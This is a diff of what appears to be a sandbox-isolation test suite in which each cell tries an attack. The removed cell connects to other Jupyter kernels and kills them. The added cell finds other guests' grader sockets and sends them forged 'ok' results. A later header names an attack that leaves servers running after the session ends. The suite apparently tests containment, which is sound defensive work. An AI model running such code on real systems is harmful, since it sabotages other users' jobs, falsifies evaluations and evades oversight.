@@ -90,28 +90,26 @@ for place in places:
         except OSError as error:
             print(place, error)
 
-# %% attack="other_kernels" tries="find the sockets and keys of other kernels, and run code in them"
+# %% attack="other_guests" tries="find the sockets of other guests and of their graders, and speak for them"
 import glob
-import re
+import json
+import os
+import socket
 import time
 
-from jupyter_client import BlockingKernelClient
-
-own = get_ipython().kernel.config.IPKernelApp.connection_file
-top = re.sub(r"/[^/]*$", "", own)
+own = os.path.dirname(os.getcwd())
 end = time.monotonic() + 1.5
 while time.monotonic() < end:
-    files = {*glob.glob(f"{top}/../*/kernel.json"), *glob.glob("@tmp@/*/*/kernel.json"), *glob.glob("/proc/*/cwd/../kernel.json")}
-    for file in files - {f"{top}/../{top.rpartition('/')[2]}/kernel.json"}:
-        try:
-            client = BlockingKernelClient(connection_file=file)
-            client.load_connection_file()
-            if client.ip != get_ipython().kernel.parent.ip:
-                print("found", file)
-                client.start_channels()
-                client.execute("import os; os._exit(1)")
-        except OSError as error:
-            print(error)
+    found = {*glob.glob(f"{own}/../*/*"), *glob.glob("@tmp@/*/*/grader"), *glob.glob("/proc/*/cwd/../*"), *glob.glob("/tmp/gradus-*/*/*")}
+    for place in found:
+        with socket.socket(socket.AF_UNIX) as client:
+            try:
+                client.connect(place)
+                text = json.dumps({"number": 0, "ended": "ok", "value": 39, "sizes": []}).encode()
+                client.sendall(len(text).to_bytes(4, "big") + text + bytes(4))
+                print("spoke to", place)
+            except OSError:
+                continue
 
 # %% attack="servers" tries="leave servers that listen when it is gone"
 import os
